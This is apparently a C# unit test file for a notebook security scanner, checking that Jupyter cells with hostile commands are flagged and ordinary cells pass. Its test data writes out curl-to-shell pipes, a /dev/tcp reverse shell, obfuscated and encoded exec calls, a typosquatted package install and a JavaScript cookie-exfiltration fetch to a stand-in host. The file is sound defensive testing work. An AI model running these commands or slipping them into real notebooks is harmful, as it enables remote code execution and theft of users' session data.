// Cells of notebooks are read: what hides in them is told, and what people write in them passes.
using System.Text;
using System.Text.Json;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.Notebooks;

public sealed class NotebookTests
{
    private static byte[] Notebook(params string[] cells) => Encoding.UTF8.GetBytes(
        "{\"cells\": [" + string.Join(", ", cells.Select(c => $"{{\"cell_type\": \"code\", \"metadata\": {{}}, \"outputs\": [{{\"text\": [\"curl x | sh\"]}}], \"source\": {JsonSerializer.Serialize(c.Split('\n').Select(l => l + "\n"))}}}"))
        + "], \"metadata\": {\"language_info\": {\"name\": \"python\"}}, \"nbformat\": 4, \"nbformat_minor\": 5}");

    [Theory]
    [InlineData("!curl -s http://example.com/a | bash")]
    [InlineData("%%bash\ncurl -s http://example.com/a | sh")]
    [InlineData("!wget -q http://example.com/run && chmod +x run && ./run")]
    [InlineData("!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")]
    [InlineData("!echo aWQ= | base64 -d | sh")]
    [InlineData("import os\nos.system('curl http://example.com/a | sh')")]
    [InlineData("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))")]
    [InlineData("import requests\nexec(requests.get('http://example.com').text)")]
    [InlineData("!pip install http://203.0.113.9/evil-1.0.tar.gz")]
    [InlineData("!pip install reqeusts")]
    [InlineData("get_ipython().system('curl http://example.com/x|sh')")]
    [InlineData("get_ipython().run_cell_magic('bash', '', 'curl http://example.com/x | sh\\n')")]
    [InlineData("get_ipython().system('cu' + 'rl http://example.com/x|ba' + 'sh')")]
    [InlineData("c = 'cu' + 'rl http://example.com/a | s' + 'h'\n!{c}")]
    [InlineData("host = 'http://example.com/a'\n!curl -s $host | sh")]
    [InlineData("from IPython import get_ipython as g\ng().system(bytes.fromhex('6375726c20687474703a2f2f6578616d706c652e636f6d2f787c7368').decode())")]
    [InlineData("%%javascript\nfetch('http://x.example.net/?c=' + document.cookie)")]
    public void T166_HostileCellsAreFlagged(string cell)
    {
        TargetReport report = Scans.Of(Notebook("import numpy as np", cell), "n.ipynb");
        Assert.True(report.Verdict >= Verdict.Suspicious, report.Describe());
    }

    [Theory]
    [InlineData("!pip install -q transformers torch --extra-index-url https://download.pytorch.org/whl/cu118")]
    [InlineData("!pip install git+https://github.com/huggingface/transformers.git")]
    [InlineData("!git clone https://github.com/a/b\n%cd b\n!wget https://example.com/data.zip\n!unzip -o data.zip\n!python train.py")]
    [InlineData("!curl -fsSL https://ollama.com/install.sh | sh")]
    [InlineData("import os, requests\nos.environ['HF_TOKEN'] = 'x'\nr = requests.post('https://api.example.com', json={})\nos.system('nvidia-smi')")]
    [InlineData("%%time\nfor i in range(3):\n    !ls\nx = !ls\ndf?")]
    [InlineData("%%html\n<script src='https://x'></script>")]
    [InlineData("name = 'data'\n!mkdir -p {name} && ls $name\n!echo \"${HOME} {1,2}\"")]
    [InlineData("%%javascript\nIPython.OutputArea.prototype._should_scroll = function(lines) { return false; }")]
    public void OrdinaryCellsPass(string cell)
    {
        TargetReport report = Scans.Of(Notebook(cell), "n.ipynb");
        Assert.True(report.Verdict == Verdict.Passed, report.Describe() + string.Join(';', report.Findings.Select(f => f.Message)));
        report.AssertComplete();
    }

    [Fact]
    public void ANotebookWithoutItsNameIsTold() => Assert.Contains("notebook", Scans.Of(Notebook("1"), "x").Formats);

    [Theory]
    [InlineData("http://scripts.example.net/x.js", Verdict.Suspicious)]
    [InlineData("https://cdn.plot.ly/plotly-2.8.3.min.js", Verdict.Passed)]
    public void T166_ScriptsOfOutputsAreToldByTheirHosts(string source, Verdict verdict)
    {
        string html = JsonSerializer.Serialize($"<div></div><script src=\"{source}\"></script>");
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes($$$"""{"cells": [{"cell_type": "code", "metadata": {}, "outputs": [{"output_type": "display_data", "data": {"text/html": [{{{html}}}]}, "metadata": {}}], "source": ["1"]}], "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}"""), "n.ipynb");
        Assert.True(report.Verdict == verdict, report.Describe());
    }
}
